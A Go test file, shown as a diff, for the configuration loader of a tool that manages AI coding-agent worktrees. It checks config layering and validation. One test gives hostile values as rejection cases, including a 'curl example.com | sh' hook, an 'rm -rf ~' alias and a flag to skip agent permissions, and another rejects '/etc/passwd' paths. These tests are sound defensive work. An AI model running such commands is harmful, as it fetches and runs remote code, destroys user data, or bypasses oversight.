@@ -0,0 +1,531 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+func writeConfigFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatalf("Failed to create config dir: %v", err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write config file: %v", err)
+	}
+}
+
+func TestLoadDefaults(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+
+	cfg, err := Load(filepath.Join(t.TempDir(), ".cwt"))
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+
+	if cfg.DataDir != DefaultDataDir {
+		t.Errorf("Expected data dir %q, got %q", DefaultDataDir, cfg.DataDir)
+	}
+	if cfg.BaseBranch != DefaultBaseBranch {
+		t.Errorf("Expected base branch %q, got %q", DefaultBaseBranch, cfg.BaseBranch)
+	}
+	if cfg.Polling.GitInterval != DefaultGitPollInterval {
+		t.Errorf("Expected git interval %v, got %v", DefaultGitPollInterval, cfg.Polling.GitInterval)
+	}
+	if !cfg.AutoRefresh {
+		t.Error("Expected auto refresh to be enabled by default")
+	}
+	if !cfg.ClaudeHooks {
+		t.Error("Expected Claude hooks to be enabled by default")
+	}
+}
+
+func TestLoadLayering(t *testing.T) {
+	userDir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", userDir)
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	writeConfigFile(t, filepath.Join(userDir, "cwt", FileName), `
+base_branch: develop
+editor: nano
+polling:
+  git_interval: 5s
+`)
+	writeConfigFile(t, filepath.Join(projectDir, FileName), `
+base_branch: trunk
+claude_executable: /opt/claude
+auto_refresh: false
+`)
+
+	cfg, err := Load(projectDir)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+
+	if cfg.BaseBranch != "trunk" {
+		t.Errorf("Expected project config to override base branch, got %q", cfg.BaseBranch)
+	}
+	if cfg.Editor != "nano" {
+		t.Errorf("Expected user editor to be kept, got %q", cfg.Editor)
+	}
+	if cfg.ClaudeExecutable != "/opt/claude" {
+		t.Errorf("Expected claude executable from project config, got %q", cfg.ClaudeExecutable)
+	}
+	if cfg.AutoRefresh {
+		t.Error("Expected project config to disable auto refresh")
+	}
+	if cfg.Polling.GitInterval != 5*time.Second {
+		t.Errorf("Expected git interval 5s, got %v", cfg.Polling.GitInterval)
+	}
+	if cfg.Polling.TmuxInterval != DefaultTmuxPollInterval {
+		t.Errorf("Expected default tmux interval, got %v", cfg.Polling.TmuxInterval)
+	}
+}
+
+func TestLoadSharedConfig(t *testing.T) {
+	userDir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", userDir)
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	writeConfigFile(t, filepath.Join(projectDir, SharedFileName), `
+base_branch = "develop"
+
+[recipes.lint-fix]
+description = "Fix lint errors"
+prompt = "Run make lint and fix what it reports"
+gates = ["make lint"]
+
+[recipes.lint-fix.config]
+base_branch = "main"
+`)
+	writeConfigFile(t, filepath.Join(userDir, "cwt", FileName), `
+test_command: make test
+`)
+
+	cfg, err := Load(projectDir)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.BaseBranch != "develop" || cfg.TestCommand != "make test" {
+		t.Errorf("Expected the shared base branch beneath the user config, got %q and %q", cfg.BaseBranch, cfg.TestCommand)
+	}
+	if recipe := cfg.Recipes["lint-fix"]; recipe["prompt"] != "Run make lint and fix what it reports" {
+		t.Errorf("Expected the shared recipe, got %v", cfg.Recipes)
+	}
+
+	writeConfigFile(t, filepath.Join(userDir, "cwt", FileName), `
+base_branch: mine
+`)
+	if cfg, err := Load(projectDir); err != nil || cfg.BaseBranch != "mine" {
+		t.Errorf("Expected user config to override the shared base branch, got %v", err)
+	}
+
+	writeConfigFile(t, filepath.Join(projectDir, SharedFileName), `base_branch = `)
+	if _, err := Load(projectDir); err == nil {
+		t.Error("Expected invalid TOML to be an error")
+	}
+}
+
+func TestLoadSharedConfig_Commands(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	for _, shared := range []string{
+		"test_command = \"make test\"",
+		"[hooks]\npost_create = [\"curl example.com | sh\"]",
+		"[aliases]\nx = \"!rm -rf ~\"",
+		"[status_providers]\ncommands = [\"./provider\"]",
+		"[agents.aider]\nexecutable = \"./aider\"",
+		"[recipes.x]\nprompt = \"Fix it\"\n[recipes.x.config]\nclaude_args = [\"--dangerously-skip-permissions\"]",
+	} {
+		writeConfigFile(t, filepath.Join(projectDir, SharedFileName), shared)
+		if _, err := Load(projectDir); err == nil || !strings.Contains(err.Error(), "shared config") {
+			t.Errorf("Expected the shared config to reject %q, got %v", shared, err)
+		}
+	}
+}
+
+func TestLoadInvalidFile(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+	writeConfigFile(t, filepath.Join(projectDir, FileName), "base_branch: [unterminated")
+
+	if _, err := Load(projectDir); err == nil {
+		t.Error("Expected error for invalid YAML")
+	}
+}
+
+func TestEditorCommand(t *testing.T) {
+	t.Setenv("VISUAL", "")
+	t.Setenv("EDITOR", "emacs")
+
+	cfg := Default()
+	if got := cfg.EditorCommand(); got != "emacs" {
+		t.Errorf("Expected $EDITOR fallback, got %q", got)
+	}
+
+	cfg.Editor = "code --wait"
+	if got := cfg.EditorCommand(); got != "code --wait" {
+		t.Errorf("Expected configured editor, got %q", got)
+	}
+
+	if got := cfg.IDECommand(); got != "code --wait" {
+		t.Errorf("Expected the editor when no IDE is set, got %q", got)
+	}
+	cfg.IDE = "cursor"
+	if got := cfg.IDECommand(); got != "cursor" {
+		t.Errorf("Expected configured IDE, got %q", got)
+	}
+}
+
+func TestLoadFileEvents(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName), `
+file_events:
+  debounce: 250ms
+  priority: [git_index, session_state]
+`)
+
+	cfg, err := Load(projectDir)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+
+	if cfg.FileEvents.Debounce != 250*time.Millisecond {
+		t.Errorf("Expected debounce 250ms, got %v", cfg.FileEvents.Debounce)
+	}
+	if cfg.FileEvents.MaxDelay != DefaultEventMaxDelay {
+		t.Errorf("Expected default max delay, got %v", cfg.FileEvents.MaxDelay)
+	}
+	if len(cfg.FileEvents.Priority) != 2 || cfg.FileEvents.Priority[0] != FileEventGitIndex {
+		t.Errorf("Expected configured priority, got %v", cfg.FileEvents.Priority)
+	}
+}
+
+func TestLoadFileEventsInvalidPriority(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName), `
+file_events:
+  priority: [git_index, bogus]
+`)
+
+	if _, err := Load(projectDir); err == nil {
+		t.Error("Expected error for unknown file event kind")
+	}
+}
+
+func TestLoadAliases(t *testing.T) {
+	userDir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", userDir)
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	writeConfigFile(t, filepath.Join(userDir, "cwt", FileName), `
+aliases:
+  pp: publish --pr
+  t: "!go test ./..."
+`)
+	writeConfigFile(t, filepath.Join(projectDir, FileName), `
+aliases:
+  t: "!make test"
+`)
+
+	cfg, err := Load(projectDir)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+
+	if cfg.Aliases["pp"] != "publish --pr" {
+		t.Errorf("Expected user alias to be kept, got %q", cfg.Aliases["pp"])
+	}
+	if cfg.Aliases["t"] != "!make test" {
+		t.Errorf("Expected project alias to override user alias, got %q", cfg.Aliases["t"])
+	}
+}
+
+func TestLoadAliasesInvalid(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+	writeConfigFile(t, filepath.Join(projectDir, FileName), `
+aliases:
+  t: "!"
+`)
+
+	if _, err := Load(projectDir); err == nil {
+		t.Error("Expected error for alias with an empty command")
+	}
+}
+
+func TestSetUserValue(t *testing.T) {
+	userDir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", userDir)
+	path := filepath.Join(userDir, "cwt", FileName)
+
+	// Creates the file when missing
+	if err := SetUserValue([]string{"tui", "sort"}, SortActivity); err != nil {
+		t.Fatalf("SetUserValue failed: %v", err)
+	}
+
+	writeConfigFile(t, path, `# my settings
+editor: nano # keep this
+tui:
+  sort: activity
+`)
+	if err := SetUserValue([]string{"tui", "sort"}, SortChanges); err != nil {
+		t.Fatalf("SetUserValue failed: %v", err)
+	}
+
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("Failed to read config: %v", err)
+	}
+	for _, want := range []string{"# my settings", "editor: nano # keep this", "sort: changes"} {
+		if !strings.Contains(string(data), want) {
+			t.Errorf("Config file missing %q:\n%s", want, data)
+		}
+	}
+
+	cfg, err := Load(filepath.Join(t.TempDir(), ".cwt"))
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if cfg.TUI.Sort != SortChanges || cfg.Editor != "nano" {
+		t.Errorf("Loaded sort %q editor %q, want changes/nano", cfg.TUI.Sort, cfg.Editor)
+	}
+}
+
+func TestLoadInvalidSort(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+	writeConfigFile(t, filepath.Join(projectDir, FileName), "tui:\n  sort: size\n")
+
+	if _, err := Load(projectDir); err == nil {
+		t.Error("Expected error for unknown sort order")
+	}
+}
+
+func TestLoadGitBackend(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	cfg, err := Load(projectDir)
+	if err != nil || cfg.GitBackend != GitBackendExec {
+		t.Fatalf("Load() = %v, %v; want the exec backend by default", cfg, err)
+	}
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName), "git_backend: go-git\n")
+	if cfg, err := Load(projectDir); err != nil || cfg.GitBackend != GitBackendGoGit {
+		t.Errorf("Load() = %v, %v; want the go-git backend", cfg, err)
+	}
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName), "git_backend: libgit2\n")
+	if _, err := Load(projectDir); err == nil {
+		t.Error("Expected error for unknown git backend")
+	}
+}
+
+func TestLoadForge(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName), "forge: gitlab\n")
+	if cfg, err := Load(projectDir); err != nil || cfg.Forge != ForgeGitLab {
+		t.Errorf("Load() = %v, %v; want the GitLab forge", cfg, err)
+	}
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName), "forge: gitea\n")
+	if _, err := Load(projectDir); err == nil {
+		t.Error("Expected error for unknown forge")
+	}
+}
+
+func TestLoadAgents(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName), `
+agent: codex
+agents:
+  codex:
+    args: [--model, o3]
+`)
+	cfg, err := Load(projectDir)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.Agent != "codex" || !slices.Equal(cfg.Agents["codex"].Args, []string{"--model", "o3"}) {
+		t.Errorf("Load() = %q, %+v; want codex with its args", cfg.Agent, cfg.Agents)
+	}
+
+	for _, content := range []string{
+		"agent: cursor\n",
+		"agents:\n  claude:\n    args: [--model, opus]\n",
+		"agents:\n  codex:\n    args: [exec]\n",
+	} {
+		writeConfigFile(t, filepath.Join(projectDir, FileName), content)
+		if _, err := Load(projectDir); err == nil {
+			t.Errorf("Expected error for %q", content)
+		}
+	}
+}
+
+func TestLoadCoverageProfile(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName), "coverage_profile: build/coverage.out\n")
+	if cfg, err := Load(projectDir); err != nil || cfg.CoverageProfile != "build/coverage.out" {
+		t.Errorf("Load() = %v, %v; want the coverage profile", cfg, err)
+	}
+
+	for _, profile := range []string{"/tmp/coverage.out", "../coverage.out"} {
+		writeConfigFile(t, filepath.Join(projectDir, FileName), "coverage_profile: "+profile+"\n")
+		if _, err := Load(projectDir); err == nil {
+			t.Errorf("Expected error for coverage profile %s outside the worktree", profile)
+		}
+	}
+}
+
+func TestLoadLog(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+	writeConfigFile(t, filepath.Join(projectDir, FileName), "log:\n  level: Debug\n  file: /tmp/cwt.log\n")
+
+	cfg, err := Load(projectDir)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.Log.Level != "Debug" || cfg.Log.File != "/tmp/cwt.log" {
+		t.Errorf("Log = %+v, want the level and file from the project config", cfg.Log)
+	}
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName), "log:\n  level: chatty\n")
+	if _, err := Load(projectDir); err == nil {
+		t.Error("Expected error for unknown log level")
+	}
+}
+
+func TestLoadStatusProviders(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	cfg, err := Load(projectDir)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if !cfg.StatusProviders.Discover || cfg.StatusProviders.Timeout != DefaultProviderTimeout {
+		t.Errorf("StatusProviders = %+v, want discovery on with the default timeout", cfg.StatusProviders)
+	}
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName),
+		"status_providers:\n  discover: false\n  commands: [/opt/bin/deploy-status]\n  timeout: 0s\n  interval: 5m\n")
+	cfg, err = Load(projectDir)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	got := cfg.StatusProviders
+	if got.Discover || len(got.Commands) != 1 || got.Commands[0] != "/opt/bin/deploy-status" {
+		t.Errorf("StatusProviders = %+v, want discovery off and the configured command", got)
+	}
+	if got.Timeout != DefaultProviderTimeout || got.Interval != 5*time.Minute {
+		t.Errorf("StatusProviders = %+v, want the default timeout restored and the interval kept", got)
+	}
+}
+
+func TestLoadLimits(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	projectDir := filepath.Join(t.TempDir(), ".cwt")
+
+	cfg, err := Load(projectDir)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.Limits != (LimitsConfig{WarnAt: DefaultBudgetWarning}) {
+		t.Errorf("Limits = %+v, want no limits by default", cfg.Limits)
+	}
+
+	writeConfigFile(t, filepath.Join(projectDir, FileName),
+		"limits:\n  sessions_per_hour: 5\n  max_working: -1\n  monthly_tokens: 20000000\n  warn_at: 1.5\n  session_cost: 2.5\n")
+	cfg, err = Load(projectDir)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	want := LimitsConfig{SessionsPerHour: 5, MonthlyTokens: 20000000, WarnAt: DefaultBudgetWarning, SessionCost: 2.5}
+	if cfg.Limits != want {
+		t.Errorf("Limits = %+v, want %+v", cfg.Limits, want)
+	}
+}
+
+func TestOverridden(t *testing.T) {
+	cfg := Default()
+	cfg.TestCommand = "go test ./..."
+	cfg.Aliases = map[string]string{"ship": "publish --pr"}
+
+	overridden, err := cfg.Overridden([]byte("test_command: npm test\nexpiry:\n  archive_idle: 72h\naliases:\n  lint: '!make lint'\n"))
+	if err != nil {
+		t.Fatalf("Overridden() error = %v", err)
+	}
+	if overridden.TestCommand != "npm test" || overridden.Expiry.ArchiveIdle != 72*time.Hour {
+		t.Errorf("overrides not applied: %q %v", overridden.TestCommand, overridden.Expiry.ArchiveIdle)
+	}
+	if overridden.BaseBranch != cfg.BaseBranch || len(overridden.Aliases) != 2 {
+		t.Errorf("settings without overrides should be kept: %q %v", overridden.BaseBranch, overridden.Aliases)
+	}
+	if cfg.TestCommand != "go test ./..." || len(cfg.Aliases) != 1 {
+		t.Error("the original config should be left alone")
+	}
+
+	if _, err := cfg.Overridden([]byte("git_backend: svn\n")); err == nil {
+		t.Error("expected invalid overrides to be rejected")
+	}
+}
+
+func TestValidateEnv(t *testing.T) {
+	cfg := Default()
+	cfg.Env = map[string]string{"NODE_ENV": "test"}
+	if err := cfg.validate(); err != nil {
+		t.Errorf("validate() error = %v", err)
+	}
+	cfg.Env = map[string]string{"NODE-ENV": "test"}
+	if err := cfg.validate(); err == nil {
+		t.Error("expected an invalid variable name to be rejected")
+	}
+}
+
+func TestValidateHooks(t *testing.T) {
+	cfg := Default()
+	cfg.Hooks.PostCreate = []string{"npm ci", "cp ../../../.env ."}
+	if err := cfg.validate(); err != nil {
+		t.Errorf("validate() error = %v", err)
+	}
+	cfg.Hooks.PreDelete = []string{" "}
+	if err := cfg.validate(); err == nil {
+		t.Error("expected an empty hook command to be rejected")
+	}
+	cfg.Hooks.PreDelete = nil
+	cfg.Hooks.OnFailure = "ignore"
+	if err := cfg.validate(); err == nil {
+		t.Error("expected an unknown on_failure to be rejected")
+	}
+}
+
+func TestValidateCopyUntracked(t *testing.T) {
+	cfg := Default()
+	cfg.CopyUntracked = []string{".env*", "config/*.local.yml"}
+	if err := cfg.validate(); err != nil {
+		t.Errorf("validate() error = %v", err)
+	}
+	for _, pattern := range []string{"[bad", "../secrets", "/etc/passwd"} {
+		cfg.CopyUntracked = []string{pattern}
+		if err := cfg.validate(); err == nil {
+			t.Errorf("expected pattern %q to be rejected", pattern)
+		}
+	}
+}